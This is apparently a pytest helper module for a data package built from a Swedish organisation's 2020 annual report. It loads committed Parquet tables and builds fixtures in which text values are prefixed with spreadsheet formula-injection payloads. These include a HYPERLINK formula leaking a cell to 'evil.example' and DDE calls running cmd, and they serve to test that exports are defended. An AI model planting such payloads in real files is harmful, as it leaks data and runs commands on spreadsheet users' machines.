"""Shared helpers for the ks_data unit tests: paths, the committed data and the source report."""

from __future__ import annotations

import functools
import shutil
from pathlib import Path

import pandas as pd
import pytest

from ks_data import schema as s
from ks_data.load import load_tables

REPO_ROOT = Path(__file__).resolve().parents[1]
DATA_DIR = REPO_ROOT / "data"
SOURCE_DIR = DATA_DIR / "source"
FIXTURES_DIR = Path(__file__).resolve().parent / "data"
# The source report lives in the repository beside the data made from it, so a clone alone passes every test.
REPORT_PATH = SOURCE_DIR / "2020" / "verksamhetsberattelse-ks-2020.txt"


@functools.cache
def _committed_frames() -> dict[str, pd.DataFrame]:
    frames, problems = load_tables(DATA_DIR)
    assert not problems, "the committed data/*.parquet must load:\n" + "\n".join(p.describe() for p in problems)
    assert set(frames) == set(s.TABLES)
    return frames


def real_frames() -> dict[str, pd.DataFrame]:
    """Return fresh copies of every committed table, so a test may change them freely."""
    return {name: df.copy(deep=True) for name, df in _committed_frames().items()}


def real_table(table: str) -> pd.DataFrame:
    """Return a fresh copy of one committed table."""
    return _committed_frames()[table].copy(deep=True)


@functools.cache
def report_text() -> str:
    """Return the source report's text; fail (never skip) when it is missing."""
    if not REPORT_PATH.is_file():
        pytest.fail(f"The source report is missing: expected it at {REPORT_PATH}.", pytrace=False)
    return REPORT_PATH.read_text(encoding="utf-8")


def copy_data(tmp_path: Path, name: str = "data") -> Path:
    """Copy the committed data/*.parquet into ``tmp_path/name`` (without the source) and return that folder."""
    out = tmp_path / name
    out.mkdir()
    for table in s.TABLES:
        shutil.copyfile(DATA_DIR / s.get_file_name(table), out / s.get_file_name(table))
    return out


# Texts a spreadsheet would read as formulas (OWASP "CSV injection"): a link that leaks a cell, DDE calls, and
# each character that starts a formula (= + - @, tab, carriage return).
FORMULA_TEXTS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
# The goal number has a checked form ("1.3"); codes are Swedish words in the files, not the data's text.
_KEPT_TEXT = {"goal_id"}


def get_formula_text(text: str) -> str:
    """Return ``text`` behind one of FORMULA_TEXTS, the same one for the same text (so references stay joined)."""
    return f"{FORMULA_TEXTS[sum(map(ord, text)) % len(FORMULA_TEXTS)]} {text}"


def formula_frames() -> dict[str, pd.DataFrame]:
    """Return the committed tables with every text the data's checks let through beginning like a formula."""
    import pyarrow as pa

    from ks_data import labels

    frames = real_frames()
    for table, df in frames.items():
        for f in s.SCHEMAS[table]:
            if not pa.types.is_string(f.type) or f.name in _KEPT_TEXT or labels.get_code_words(table, f.name):
                continue
            df[f.name] = [None if v is None or v != v else get_formula_text(v) for v in df[f.name]]
    return frames


def write_formula_data(folder: Path) -> Path:
    """Write formula_frames() as Parquet files into ``folder`` (made if missing) and return it."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    folder.mkdir(parents=True, exist_ok=True)
    for table, df in formula_frames().items():
        pq.write_table(pa.Table.from_pandas(df, schema=s.SCHEMAS[table], preserve_index=False),
                       folder / s.get_file_name(table))
    return folder


def get_bad_value_notice(param: str, value: str) -> str:
    """Return the notice a page shows for an invalid value of ``param`` in a link, written out as a reader sees it."""
    return f'Länken innehöll ett ogiltigt värde för "{param}" ({value}). Standardvärdet visas i stället.'
